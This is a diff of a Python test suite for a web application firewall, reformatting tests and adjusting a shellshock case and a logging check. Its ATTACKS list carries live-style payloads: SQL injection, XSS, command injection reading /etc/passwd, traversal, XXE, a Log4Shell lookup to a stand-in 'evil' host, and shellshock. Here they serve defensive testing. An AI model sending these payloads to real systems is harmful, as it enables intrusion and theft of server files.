@@ -80,7 +80,9 @@ class WafService:
     def requests(self) -> float:
         _code, text = http_get(self.admin_port, "/metrics")
         return sum(
-            float(line.rsplit(" ", 1)[1]) for line in text.decode().splitlines() if line.startswith("waf_requests_total{")
+            float(line.rsplit(" ", 1)[1])
+            for line in text.decode().splitlines()
+            if line.startswith("waf_requests_total{")
         )
 
     def stop(self) -> None:
@@ -153,12 +155,31 @@ ATTACKS = [
     ("sqli", "GET", "/shop/search?q=" + q("1' OR '1'='1' --"), b"", {}),
     ("sqli-double-encoded", "GET", "/shop/search?q=" + q(q("' UNION SELECT password FROM users--")), b"", {}),
     ("xss-json", "POST", "/shop/items", b'{"name": "<script>alert(1)</script>"}', {"Content-Type": "application/json"}),
-    ("xss-json-escaped", "POST", "/shop/items", b'{"name": "\\u003cimg src=x onerror=alert(1)\\u003e"}', {"Content-Type": "application/json"}),
-    ("cmdi-form", "POST", "/shop/items", b"name=x%3B%20cat%20%2Fetc%2Fpasswd", {"Content-Type": "application/x-www-form-urlencoded"}),
+    (
+        "xss-json-escaped",
+        "POST",
+        "/shop/items",
+        b'{"name": "\\u003cimg src=x onerror=alert(1)\\u003e"}',
+        {"Content-Type": "application/json"},
+    ),
+    (
+        "cmdi-form",
+        "POST",
+        "/shop/items",
+        b"name=x%3B%20cat%20%2Fetc%2Fpasswd",
+        {"Content-Type": "application/x-www-form-urlencoded"},
+    ),
     ("traversal", "GET", "/shop/search?file=" + q("../../../etc/passwd"), b"", {}),
-    ("xxe", "POST", "/shop/import", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', {"Content-Type": "application/xml"}),
+    (
+        "xxe",
+        "POST",
+        "/shop/import",
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+        {"Content-Type": "application/xml"},
+    ),
     ("log4shell-header", "GET", "/shop/search?q=x", b"", {"User-Agent": "${${lower:j}ndi:ldap://evil/a}"}),
-    ("shellshock", "GET", "/shop/search?q=x", b"", {"Referer": "() { :; }; /bin/bash -c id"}),
+    # (not in Referer: Envoy drops a Referer that is not a URL before any filter sees it)
+    ("shellshock", "GET", "/shop/search?q=x", b"", {"X-Debug-Info": "() { :; }; /bin/bash -c id"}),
 ]
 
 
@@ -188,14 +209,16 @@ def test_benign_requests_pass(setup: Setup) -> None:
 
 
 def test_detect_mode_logs_and_lets_through(setup: Setup) -> None:
-    resp = setup.send("POST", "/shop/notes", b'{"text": "<script>alert(1)</script>"}', {"Content-Type": "application/json"})
+    text = "Dear team, " + "please ship it soon. " * 10 + "<script>alert(1)</script>" + " thanks" * 10
+    body = json.dumps({"text": text}).encode()
+    resp = setup.send("POST", "/shop/notes", body, {"Content-Type": "application/json"})
     assert resp.status == 200
     request_id = resp.header("x-request-id")
     found = wait_for(
         lambda: [f for f in setup.waf.findings() if f["request_id"] == request_id], 5, "the detection in the log"
     )
     assert found[0]["verdict"] == "detected" and found[0]["family"] == "xss" and found[0]["operation"] == "shop.addNote"
-    assert "<script>alert(1)</script>" not in json.dumps(found)  # a short snippet, never the payload
+    assert all(len(f["snippet"]) <= 64 for f in found) and text not in json.dumps(found)  # a snippet, not the payload
 
 
 def test_exclusions_let_a_rich_text_field_carry_html(setup: Setup) -> None:
@@ -204,9 +227,14 @@ def test_exclusions_let_a_rich_text_field_carry_html(setup: Setup) -> None:
     assert ok.status == 200, ok.body
     # the exclusion is that field and that family only
     other = {"title": "<script>alert(1)</script>", "html": "<p>x</p>"}
-    assert setup.send("POST", "/shop/pages", json.dumps(other).encode(), {"Content-Type": "application/json"}).status == 200
+    assert (
+        setup.send("POST", "/shop/pages", json.dumps(other).encode(), {"Content-Type": "application/json"}).status
+        == 200
+    )
     sqli = {"title": "1' OR '1'='1' --", "html": "<p>x</p>"}
-    assert setup.send("POST", "/shop/pages", json.dumps(sqli).encode(), {"Content-Type": "application/json"}).status == 403
+    assert (
+        setup.send("POST", "/shop/pages", json.dumps(sqli).encode(), {"Content-Type": "application/json"}).status == 403
+    )
 
 
 def test_a_body_padded_past_the_limit_is_refused_whole(setup: Setup) -> None:
